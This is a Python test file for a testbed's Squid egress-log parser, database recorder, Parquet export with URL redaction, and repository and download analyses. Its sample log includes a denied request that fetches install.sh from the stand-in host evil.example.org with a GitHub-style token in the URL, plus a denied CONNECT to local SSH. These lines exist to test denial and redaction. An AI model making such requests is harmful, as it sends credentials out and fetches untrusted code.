"""Squid log lines -> egress rows -> the database -> `runs show` section, Parquet table and
the two analyses (repositories and whether they resolved; downloads)."""

from __future__ import annotations

import dataclasses
import io
from datetime import UTC, datetime
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from rich.console import Console
from sqlalchemy.exc import IntegrityError
from sqlalchemy.orm import Session, sessionmaker

from testbed.db.engine import open_database
from testbed.db.models import Egress, Run
from testbed.db.read import RunFilter
from testbed.db.recorder import RunRecorder, create_job, create_run
from testbed.db.records import EgressRecord
from testbed.egress.accesslog import parse_line, parse_log, read_records, to_records
from testbed.egress.analysis import downloads, repositories
from testbed.egress.query import egress_rows
from testbed.egress.render import egress_json, egress_table
from testbed.export import SCHEMAS, export_dataset
from testbed.model.vocab import EgressDecision

LOG = "\n".join(
    [
        "1796123407.904 10.213.5.10 GET deb.debian.org"
        " http://deb.debian.org/debian/dists/bookworm/InRelease 200 151860 TCP_MISS -",
        "1796123407.950 10.213.5.10 GET deb.debian.org"
        " http://deb.debian.org/debian/pool/main/h/haproxy/haproxy_2.6.12-1_amd64.deb 200 2088000 TCP_MISS -",
        "1796123408.100 10.213.5.11 GET repo.example.invalid"
        " http://repo.example.invalid/apt/dists/stable/InRelease 503 3574 TCP_DENIED 503:ERR_DNS_FAIL",
        "1796123408.200 10.213.5.11 GET evil.example.org"
        " http://evil.example.org/install.sh?token=ghp_abcdefghijklmnopqrstuvwxyz0123456789"
        " 403 3427 TCP_DENIED ERR_ACCESS_DENIED",
        "1796123408.300 10.213.5.10 CONNECT download.docker.com download.docker.com:443 200 48211 TCP_TUNNEL -",
        "1796123408.400 10.213.5.10 CONNECT 127.0.0.1 127.0.0.1:22 403 3436 TCP_DENIED ERR_ACCESS_DENIED",
        "1796123408.500 10.213.5.10 - - error:transaction-end-before-headers 0 0 NONE_NONE ERR_CLIENT_GONE",
        "1796123408.600 10.213.5.99 GET pypi.org http://pypi.org/simple/requests/ 200 9000 TCP_MISS -",
        "not a log line",
    ]
)
NODES = {"10.213.5.10": "web", "10.213.5.11": "client"}


def test_lines_become_entries_with_decisions() -> None:
    entries = parse_log(LOG.splitlines())
    assert len(entries) == 7  # the empty connection and the garbage line are no requests
    first = entries[0]
    assert first.at == datetime.fromtimestamp(1796123407.904, UTC)
    assert (first.client, first.method, first.host, first.status, first.bytes) == (
        "10.213.5.10",
        "GET",
        "deb.debian.org",
        200,
        151860,
    )
    assert [e.decision for e in entries] == [
        EgressDecision.ALLOWED,
        EgressDecision.ALLOWED,
        EgressDecision.DNS_FAILURE,
        EgressDecision.DENIED,
        EgressDecision.ALLOWED,
        EgressDecision.DENIED,
        EgressDecision.ALLOWED,
    ]
    assert entries[2].error == "ERR_DNS_FAIL"
    assert parse_line("1796123408.1 10.0.0.1 GET h http://h/ 200 x TCP_MISS -") is None


def test_rows_are_attributed_by_management_address(tmp_path: Path) -> None:
    rows = to_records(parse_log(LOG.splitlines()), NODES)
    assert [r.node for r in rows] == ["web", "web", "client", "client", "web", "web", None]
    log = tmp_path / "lab.log"
    log.write_text(LOG)
    assert read_records(log, NODES) == rows
    assert read_records(tmp_path / "missing.log", NODES) == []


@pytest.fixture
def sessions(tmp_path: Path) -> sessionmaker[Session]:
    return open_database(f"sqlite:///{tmp_path / 'testbed.db'}")


def test_recorded_rows_round_trip_and_bad_rows_are_refused(sessions: sessionmaker[Session]) -> None:
    run_id = create_run(sessions, task_id="t", agent="noop")
    recorder = RunRecorder(sessions, run_id)
    rows = to_records(parse_log(LOG.splitlines()), NODES)
    assert recorder.record_egress(rows) == 7
    bad = EgressRecord(
        node=None, at=datetime(2026, 1, 1), method="GET", host="h", url="http://h/", status=200, bytes=1, decision="ok"
    )
    with pytest.raises(ValueError, match="egress decision"):
        recorder.record_egress([rows[0], bad])
    naive = dataclasses.replace(rows[0], at=datetime(2026, 1, 1))
    with pytest.raises(ValueError, match="timezone-aware"):
        recorder.record_egress([naive])
    with sessions() as session:
        stored = egress_rows(session, run_id)
        assert [(r.node, r.method, r.url, r.status, r.bytes, r.decision) for r in stored] == [
            (r.node, r.method, r.url, r.status, r.bytes, r.decision) for r in rows
        ]
        assert stored[0].at == rows[0].at
        session.add(Egress(run_id=run_id, at=rows[0].at, method="GET", url="u", status=1, bytes=1, decision="maybe"))
        with pytest.raises(IntegrityError):
            session.commit()


def _render(table: object) -> str:
    console = Console(file=io.StringIO(), width=200)
    console.print(table)
    out = console.file
    assert isinstance(out, io.StringIO)
    return out.getvalue()


def test_runs_show_section_counts_and_marks_refusals() -> None:
    rows = to_records(parse_log(LOG.splitlines()), NODES)
    assert egress_table([]) is None
    text = _render(egress_table(rows, limit=4))
    assert "egress (7 requests, 2 denied, 1 DNS failures)" in text
    assert "✗ denied" in text and "✗ dns_failure" in text
    assert "haproxy_2.6.12-1_amd64.deb" in text
    assert "download.docker.com:443" not in text  # beyond the first 4
    assert "… 3 more" in text
    section = egress_json(rows)
    assert (section["count"], section["denied"], section["dns_failures"]) == (7, 2, 1)
    assert section["requests"][4]["url"] == "download.docker.com:443"


def test_parquet_table_matches_its_schema_and_redacts_urls(sessions: sessionmaker[Session], tmp_path: Path) -> None:
    """The export writes the selected runs' requests as the `egress` table."""
    run_id = create_run(sessions, task_id="t", agent="noop", job_id=create_job(sessions, "egress"))
    other = create_run(sessions, task_id="t", agent="noop")
    rows = to_records(parse_log(LOG.splitlines()), NODES)
    RunRecorder(sessions, run_id).record_egress(rows)
    RunRecorder(sessions, other).record_egress(rows[:1])
    with sessions() as session:
        job_id = session.get(Run, run_id).job_id  # type: ignore[union-attr]
    result = export_dataset(sessions, tmp_path / "out", selection=RunFilter(job_id=job_id), redact=True)
    assert result.tables["egress"].rows == 7
    path = tmp_path / "out" / "egress.parquet"
    assert pq.read_schema(path).equals(SCHEMAS["egress"], check_metadata=True)
    table = pq.read_table(path).to_pylist()
    assert {r["run_id"] for r in table} == {run_id}
    assert [r["decision"] for r in table] == [r.decision for r in rows]
    leaked = table[3]
    assert "ghp_abcdefghijklmnopqrstuvwxyz0123456789" not in leaked["url"]
    assert leaked["redacted"] != [] and table[0]["redacted"] == []
    assert table[0]["at"] == rows[0].at


def test_repositories_and_whether_their_hosts_resolved() -> None:
    rows = to_records(parse_log(LOG.splitlines()), NODES)
    repos = {r.base: r for r in repositories(rows)}
    assert set(repos) == {
        "http://deb.debian.org/debian",
        "http://repo.example.invalid/apt",
        "https://download.docker.com/",
        "https://127.0.0.1/",
        "http://pypi.org",
    }
    debian = repos["http://deb.debian.org/debian"]
    assert (debian.kind, debian.added, debian.requests, debian.status, debian.nodes) == (
        "apt",
        False,
        2,
        "resolved",
        ("web",),
    )
    added = repos["http://repo.example.invalid/apt"]
    assert (added.added, added.status, added.dns_failures, added.nodes) == (True, "dns_failure", 1, ("client",))
    assert (repos["https://download.docker.com/"].kind, repos["https://download.docker.com/"].status) == (
        "tls",
        "resolved",
    )
    assert repos["https://127.0.0.1/"].status == "denied"
    assert repos["http://pypi.org"].added is False


def test_downloads_are_every_request_in_time_order() -> None:
    rows = to_records(parse_log(LOG.splitlines()), NODES)
    listed = downloads(reversed(rows))
    assert [d.url for d in listed] == [r.url for r in rows]
    packages = [d.url for d in listed if d.package]
    assert packages == ["http://deb.debian.org/debian/pool/main/h/haproxy/haproxy_2.6.12-1_amd64.deb"]
    assert (listed[1].status, listed[1].bytes, listed[1].node) == (200, 2088000, "web")
